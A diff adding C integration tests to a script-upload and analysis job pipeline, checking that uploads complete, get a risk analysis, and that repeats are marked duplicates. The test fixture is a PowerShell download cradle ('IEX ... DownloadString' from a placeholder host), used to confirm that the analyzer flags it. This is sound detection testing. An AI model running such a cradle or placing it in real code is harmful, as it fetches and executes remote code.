@@ -156,10 +156,80 @@ test_cleanup_job_drops_expired_sessions_and_old_jobs(void)
 	(void)it_psql("DELETE FROM users WHERE username = 'cleanup-user'");
 }
 
+/* poll: waits until the query answers want, up to seconds; returns the last answer. */
+static const char *
+poll_sql(const char *sql, const char *want, int seconds)
+{
+	static char last[512];
+	const char *v;
+
+	for (int i = 0; i < seconds * 10; i++) {
+		v = it_psql(sql);
+		snprintf(last, sizeof(last), "%s", v ? v : "(error)");
+		if (strcmp(last, want) == 0)
+			break;
+		usleep(100000);
+	}
+	return last;
+}
+
+static void
+test_upload_becomes_a_script_and_gets_analysed(void)
+{
+	const char *id;
+	char sql[1024], upload[64];
+
+	T_ASSERT(it_psql("INSERT INTO users (username, email, password_hash) VALUES "
+	    "('pipeline-user', 'pipeline@example.com', '$2b$12$abcdefghijklmnopqrstuuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ01') RETURNING id") != NULL);
+	id = it_psql("INSERT INTO uploads (batch_id, user_id, filename, content, size) "
+	    "SELECT gen_random_uuid(), u.id, 'cradle.ps1', convert_to(c, 'UTF8'), octet_length(convert_to(c, 'UTF8')) "
+	    "FROM users u, (SELECT 'IEX (New-Object Net.WebClient).DownloadString(''http://x.example/p'')' || chr(10) AS c) t "
+	    "WHERE u.username = 'pipeline-user' RETURNING id");
+	T_ASSERT(id != NULL && strlen(id) == 36);
+	snprintf(upload, sizeof(upload), "%s", id ? id : "");
+	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload) VALUES ('upload.process', "
+	    "jsonb_build_object('uploadId', '%s')) RETURNING id", upload);
+	T_ASSERT(it_psql(sql) != NULL);
+	snprintf(sql, sizeof(sql), "SELECT status FROM uploads WHERE id = '%s'", upload);
+	T_STREQ(poll_sql(sql, "completed", 20), "completed");
+	/* the new script's analysis job runs the built-in analyzer and stores every column */
+	snprintf(sql, sizeof(sql), "SELECT a.risk_score >= 5 AND a.security_score < 8 "
+	    "AND a.security_issues::text LIKE '%%PSSAvoidDownloadCradle%%' "
+	    "AND jsonb_typeof(a.execution_summary) = 'object' AND a.provider = 'psscript-builtin' "
+	    "FROM script_analysis a JOIN uploads u ON u.script_id = a.script_id WHERE u.id = '%s'", upload);
+	T_STREQ(poll_sql(sql, "t", 30), "t");
+	/* a second upload of the same content is a duplicate of the first script */
+	id = it_psql("INSERT INTO uploads (batch_id, user_id, filename, content, size) "
+	    "SELECT gen_random_uuid(), u.id, 'again.ps1', convert_to(c, 'UTF8'), octet_length(convert_to(c, 'UTF8')) "
+	    "FROM users u, (SELECT 'IEX (New-Object Net.WebClient).DownloadString(''http://x.example/p'')' || chr(10) AS c) t "
+	    "WHERE u.username = 'pipeline-user' RETURNING id");
+	T_ASSERT(id != NULL);
+	snprintf(upload, sizeof(upload), "%s", id ? id : "");
+	snprintf(sql, sizeof(sql), "INSERT INTO jobs (type, payload) VALUES ('upload.process', "
+	    "jsonb_build_object('uploadId', '%s')) RETURNING id", upload);
+	T_ASSERT(it_psql(sql) != NULL);
+	snprintf(sql, sizeof(sql), "SELECT status || ':' || (existing_script_id IS NOT NULL) FROM uploads WHERE id = '%s'", upload);
+	T_STREQ(poll_sql(sql, "duplicate:true", 20), "duplicate:true");
+	(void)it_psql("DELETE FROM users WHERE username = 'pipeline-user'");
+}
+
+static void
+test_analysis_of_a_deleted_script_is_not_an_error(void)
+{
+	long id = enqueue("analysis.run", "{\"scriptId\": 999999}", 3);
+
+	T_STREQ(wait_status(id, "done", 20), "done");
+	id = enqueue("analysis.run", "{\"scriptId\": \"x\"}", 3);
+	T_STREQ(wait_status(id, "failed", 20), "failed");
+	T_CONTAINS(job_field(id, "last_error"), "scriptId");
+}
+
 int
 main(void)
 {
 	it_init();
+	T_RUN(test_upload_becomes_a_script_and_gets_analysed);
+	T_RUN(test_analysis_of_a_deleted_script_is_not_an_error);
 	T_RUN(test_cleanup_job_drops_expired_sessions_and_old_jobs);
 	T_RUN(test_job_runs_to_done);
 	T_RUN(test_failing_job_retries_with_backoff_then_keeps_reason);
